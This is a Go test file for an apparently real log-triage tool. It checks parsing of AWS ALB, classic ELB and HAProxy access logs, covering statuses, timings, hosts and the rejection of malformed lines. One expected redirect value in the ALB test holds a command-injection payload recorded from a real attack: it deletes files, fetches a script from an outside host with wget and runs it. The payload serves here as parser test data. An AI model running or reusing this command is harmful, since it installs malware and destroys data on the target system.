package lb

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/edgetriage/edgetriage/parse"
)

func readLines(t testing.TB, name string) [][]byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return bytes.Split(bytes.TrimSuffix(data, []byte("\n")), []byte("\n"))
}

// parseFile parses every line and returns the records and the line numbers
// of ignored and malformed lines.
func parseFile(t *testing.T, p parse.Parser, name string) (recs []parse.Record, ignored, malformed []int) {
	t.Helper()
	for i, line := range readLines(t, name) {
		var rec parse.Record
		switch err := p.Parse(line, &rec); {
		case err == nil:
			recs = append(recs, rec)
		case errors.Is(err, parse.ErrIgnored):
			ignored = append(ignored, i+1)
		default:
			t.Logf("%s line %d: %v", name, i+1, err)
			malformed = append(malformed, i+1)
		}
	}
	return recs, ignored, malformed
}

func rfc(s string) int64 {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t.UnixNano()
}

func TestALBRealData(t *testing.T) {
	recs, ignored, malformed := parseFile(t, NewALB(), "aws_alb_elastic_test-alb.log")
	// Lines 1, 2 and 10 are ALB requests; 3-6 NLB TLS lines; 7-9 ALB
	// connection-log lines (read by hand).
	if len(recs) != 3 || len(malformed) != 0 || !equalInts(ignored, []int{3, 4, 5, 6, 7, 8, 9}) {
		t.Fatalf("records %d, ignored %v, malformed %v", len(recs), ignored, malformed)
	}
	r := recs[0]
	if r.Time != rfc("2018-07-02T22:23:00.186641Z") || r.Source != parse.SourceEdge || r.ClientIP != "192.168.131.39" ||
		r.Upstream != "10.0.0.1:80" || r.Status != 200 || r.OriginStatus != 200 || r.Bytes != 366 ||
		r.Duration != time.Millisecond || r.OriginHeaderTime != time.Millisecond || r.Host != "www.example.com" ||
		r.Method != "GET" || r.Path != "/" || r.Protocol != "HTTP/1.1" || r.UserAgent != "curl/7.46.0" ||
		r.RequestID != "Root=1-58337262-36d228ad5d99923122bbe354" || r.Failure != "" {
		t.Errorf("line 1: %+v", r)
	}
	// A redirect answered by the load balancer: no target, times -1.
	r = recs[1]
	if r.Status != 301 || r.OriginStatus != 0 || r.Upstream != "" || r.Duration != parse.Unknown ||
		r.OriginHeaderTime != parse.Unknown || r.Path != "/shell" || r.Host != "127.0.0.1" ||
		r.StatusLocation != "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" {
		t.Errorf("line 2: %+v", r)
	}
	// A garbage request line.
	r = recs[2]
	if r.Status != 200 || r.Method != "" || r.ClientIP != "127.0.0.1" || r.Bytes != 272 {
		t.Errorf("line 10: %+v", r)
	}
}

func TestALBCases(t *testing.T) {
	const alb = `https 2018-07-02T22:23:00.186641Z app/my-lb/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.001 -1 -1 502 - 34 366 "GET https://www.example.com:443/api?x=1 HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "forward" "-" "TargetConnectionError" "10.0.0.1:80" "-" "-" "-"`
	const elb = `2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -`
	tests := []struct {
		name string
		line string
		want func(r parse.Record) bool
	}{
		{"target connection error", alb, func(r parse.Record) bool {
			return r.Status == 502 && r.OriginStatus == 0 && r.Failure == "TargetConnectionError" &&
				r.Duration == parse.Unknown && r.Path == "/api" && r.Query == "x=1" && r.Host == "www.example.com"
		}},
		{"classic ELB", elb, func(r parse.Record) bool {
			return r.Status == 200 && r.OriginStatus == 200 && r.Duration == 1178*time.Microsecond &&
				r.Bytes == 29 && r.Upstream == "10.0.0.1:80" && r.Host == "www.example.com"
		}},
	}
	p := NewALB()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var r parse.Record
			if err := p.Parse([]byte(tt.line), &r); err != nil {
				t.Fatal(err)
			}
			if !tt.want(r) {
				t.Errorf("%+v", r)
			}
		})
	}
	for _, bad := range []string{
		"", "http", `http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 200 200 1 2 "GET / HTTP/1.1`,
		`http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 2x0 200 1 2 "GET / HTTP/1.1" "ua" - - - "-" "-" "-"`,
		`http yesterday app/x 1.2.3.4:5 - 0 0 0 200 200 1 2 "GET / HTTP/1.1" "ua" - - - "-" "-" "-"`,
		`192.0.2.1 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua"`,
	} {
		var r parse.Record
		if err := p.Parse([]byte(bad), &r); !parse.IsMalformed(err) {
			t.Errorf("%q: err %v, want malformed", bad, err)
		}
	}
}

func TestHAProxyRealData(t *testing.T) {
	type want struct {
		records int
		ignored []int
	}
	files := map[string]want{
		"haproxy_elastic_test-haproxy.log":            {4, nil},
		"haproxy_elastic_test-httplog-no-headers.log": {3, nil},
		"haproxy_elastic_test-haproxy-bad-req.log":    {1, nil},
		"haproxy_elastic_test-https.log":              {1, nil},
		// 3 "Proxy ... started." events and one SSL handshake failure.
		"haproxy_lnav_logfile_haproxy.0.log": {13, []int{1, 2, 3, 14}},
	}
	got := map[string][]parse.Record{}
	for name, w := range files {
		recs, ignored, malformed := parseFile(t, NewHAProxy(), name)
		if len(recs) != w.records || len(malformed) != 0 || !equalInts(ignored, w.ignored) {
			t.Errorf("%s: records %d (want %d), ignored %v (want %v), malformed %v", name, len(recs), w.records, ignored, w.ignored, malformed)
		}
		got[name] = recs
	}
	ms := time.Millisecond
	r := got["haproxy_elastic_test-https.log"][0]
	if r.Time != rfc("2009-02-06T12:14:14.655Z") || r.Source != parse.SourceEdge || r.ClientIP != "10.0.1.2" ||
		r.Upstream != "static/srv1" || r.Status != 200 || r.OriginStatus != 200 || r.Bytes != 2750 ||
		r.OriginConnectTime != 30*ms || r.OriginHeaderTime != 69*ms || r.Duration != 109*ms ||
		r.Host != "1wt.eu" || r.Method != "GET" || r.Path != "/index.html" || r.Protocol != "HTTP/1.1" || r.Failure != "" {
		t.Errorf("https line: %+v", r)
	}
	// No server: 503 from HAProxy itself, the server never reached.
	r = got["haproxy_elastic_test-httplog-no-headers.log"][1]
	if r.Status != 503 || r.OriginStatus != 0 || r.Upstream != "" || r.Failure != "SC--" ||
		r.OriginConnectTime != parse.Unknown || r.OriginHeaderTime != parse.Unknown || r.Duration != 0 ||
		r.Host != "localhost" || r.Path != "/foo" {
		t.Errorf("NOSRV line: %+v", r)
	}
	r = got["haproxy_elastic_test-haproxy-bad-req.log"][0]
	if r.Status != 400 || r.Method != "" || r.Failure != "CR--" || r.ClientIP != "127.0.0.1" {
		t.Errorf("BADREQ line: %+v", r)
	}
	h := got["haproxy_elastic_test-haproxy.log"]
	// Line 2 has a custom field between backend/server and the timers, and
	// "-" as the client address.
	if r := h[1]; r.Method != "OPTIONS" || r.Path != "/api/v2/app/" || r.Duration != 18*ms || r.ClientIP != "" || r.Upstream != "myapp/node2" {
		t.Errorf("custom field line: %+v", r)
	}
	if r := h[0]; r.Host != "docs.example.internal" || r.Status != 304 {
		t.Errorf("line 1: %+v", r)
	}
	// A captured User-Agent is not taken for a host.
	if r := got["haproxy_lnav_logfile_haproxy.0.log"][0]; r.Host != "" || r.Duration != 1487*ms || r.Bytes != 11394 {
		t.Errorf("lnav line 4: %+v", r)
	}
}

func TestHAProxyCases(t *testing.T) {
	p := NewHAProxy()
	const timeout = `Jun 27 21:43:42 lb haproxy[22021]: 8.6.7.10:55480 [27/Jun/2019:21:42:38.916] public_ssl~ be_http/srva 0/0/0/-1/63387 504 194 - - sH-- 15/13/10/0/0 0/0 "PATCH /api/upload/4ddad61736a6 HTTP/1.1"`
	var r parse.Record
	if err := p.Parse([]byte(timeout), &r); err != nil {
		t.Fatal(err)
	}
	if r.Status != 504 || r.OriginStatus != 0 || r.Failure != "sH--" || r.OriginHeaderTime != parse.Unknown ||
		r.Duration != 63387*time.Millisecond || r.Upstream != "be_http/srva" {
		t.Errorf("server timeout: %+v", r)
	}
	const tcp = `Feb  6 12:12:56 localhost haproxy[14387]: 10.0.1.2:33313 [06/Feb/2009:12:12:51.443] fnt bck/srv1 0/0/5007 212 -- 0/0/0/0/3 0/0`
	if err := p.Parse([]byte(tcp), &r); !errors.Is(err, parse.ErrIgnored) {
		t.Errorf("tcp line: %v, want ignored", err)
	}
	for _, bad := range []string{
		"", "hello", `10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 2x0 2750 - - ---- 1/1/1/1/0 0/0 "GET / HTTP/1.1"`,
		`10.0.1.2:33317 [06/Foo/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET / HTTP/1.1"`,
		`10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/x/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET / HTTP/1.1"`,
		`10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ----`,
	} {
		if err := p.Parse([]byte(bad), &r); !parse.IsMalformed(err) {
			t.Errorf("%q: err %v, want malformed", bad, err)
		}
	}
}

func equalInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
